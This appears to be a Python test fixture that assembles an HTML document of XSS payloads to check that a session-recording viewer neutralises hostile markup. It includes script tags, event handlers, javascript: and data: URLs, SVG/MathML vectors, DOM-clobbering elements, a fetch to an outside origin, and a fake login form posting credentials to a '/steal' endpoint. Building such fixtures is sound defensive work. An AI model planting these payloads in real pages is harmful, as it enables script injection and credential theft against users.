"""A recording that attacks whoever watches it, as markup. In comes a foreign origin, out comes what
is parsed and then forged."""

from __future__ import annotations

_PARTS = (
    "<base href='{o}/base/' target='_top'>",
    "<meta http-equiv='refresh' content='0; url={o}/refresh'>",
    "<meta http-equiv='Content-Security-Policy' content=\"img-src *\">",
    "<meta name='referrer' content='unsafe-url'>",
    "<script>top.hacked = 'script'; fetch('{o}/fetch')</script>",
    "<script src='{o}/script.js'></script>",
    "<script type='module'>top.hacked = 'module'</script>",
    "<body onload='top.hacked=1' onfocus='top.hacked=2' onscroll='top.hacked=3'>",
    "<img src='x:' onerror='top.hacked=4' onload='top.hacked=5'>",
    "<svg onload='top.hacked=6'><script>top.hacked = 7</script>"
    "<animate attributeName='href' values='javascript:top.hacked=8' onbegin='top.hacked=9'/>"
    "<set attributeName='onmouseover' to='top.hacked=10'/>"
    "<a href='javascript:top.hacked=11'><text y='9'>svg link</text></a>"
    "<use href='data:image/svg+xml,&lt;svg id=a onload=top.hacked=12&gt;#a'/>"
    "<foreignObject><iframe srcdoc='&lt;script&gt;top.hacked=13&lt;/script&gt;'></iframe>"
    "</foreignObject></svg>",
    "<math><maction actiontype='statusline' href='javascript:top.hacked=14'>m</maction></math>",
    "<a id='script-link' href='javascript:top.hacked=15'>script link</a>",
    "<a id='tab-link' href='java&#9;script:top.hacked=16'>link with a tab</a>",
    "<a id='space-link' href=' &#1;javascript:top.hacked=17'>link with a control sign</a>",
    "<a id='top-link' href='{o}/top' target='_top'>to the top</a>",
    "<a id='data-link' href='data:text/html,&lt;script&gt;top.hacked=18&lt;/script&gt;'>data</a>",
    "<a id='api-link' href='/api/sessions' target='_top'>to the collector</a>",
    "<form action='javascript:top.hacked=19'><button id='script-form'>send</button>"
    "<input type='submit' formaction='javascript:top.hacked=20'></form>",
    "<form action='{o}/steal' method='post'><input name='user' autocomplete='username'>"
    "<input type='password' autocomplete='current-password' autofocus>"
    "<button id='far-form'>sign in</button></form>",
    "<iframe src='javascript:top.hacked=21'></iframe>",
    "<iframe src='{o}/frame' sandbox='allow-scripts allow-same-origin allow-top-navigation'>"
    "</iframe>",
    "<iframe srcdoc='&lt;script&gt;top.hacked=22&lt;/script&gt;'></iframe>",
    "<object data='javascript:top.hacked=23' type='text/html'></object>",
    "<embed src='data:text/html,&lt;script&gt;top.hacked=24&lt;/script&gt;'>",
    "<portal src='{o}/portal'></portal>",
    "<template><script>top.hacked = 25</script><img src='{o}/template.png'></template>",
    "<noscript><img src='{o}/noscript.png'></noscript>",
    "<details open ontoggle='top.hacked=26'><summary>more</summary>x</details>",
    "<video poster='javascript:top.hacked=27' onloadstart='top.hacked=28'><source src='x:' "
    "onerror='top.hacked=29'></video>",
    "<input onfocus='top.hacked=30' autofocus><marquee onstart='top.hacked=31'>m</marquee>",
    "<style>@import '{o}/import.css'; body {{ background: url({o}/bg.png); "
    "behavior: url(x); -moz-binding: url(x) }}</style>",
    "<p style='background: url(\"javascript:top.hacked=32\"); color: expression(top.hacked=33)'>p</p>",
    "<img src='/api/sessions'><img src='/metrics'>",
    "<link rel='stylesheet' href='{o}/sheet.css' onload='top.hacked=34' onerror='top.hacked=35'>",
    "<link rel='preconnect' href='{o}'><link rel='icon' href='{o}/icon.png'>",
    "<link rel='manifest' href='{o}/manifest'><link rel='prefetch' href='{o}/prefetch'>",
    "<textarea>&lt;/textarea&gt;&lt;script&gt;top.hacked=36&lt;/script&gt;</textarea>",
    "<title>&lt;/title&gt;&lt;script&gt;top.hacked=37&lt;/script&gt;</title>",
    "<p>--&gt;&lt;script&gt;top.hacked=38&lt;/script&gt;</p>",
    "<style>&lt;/style&gt;&lt;script&gt;top.hacked=39&lt;/script&gt;</style>",
    "<xmp>&lt;/xmp&gt;&lt;script&gt;top.hacked=40&lt;/script&gt;</xmp>",
    "<plaintext-x><p id='frame' name='player' class='player'>clobber</p></plaintext-x>",
    "<form id='player' name='contentDocument'><input name='attributes'><input name='parentNode'>"
    "</form>",
    "<p id='last'>the end</p>",
)


def hostile_markup(outside: str) -> str:
    """To be parsed where nothing runs (a document made by DOMParser)."""
    return "<!doctype html>" + "".join(part.format(o=outside) for part in _PARTS)
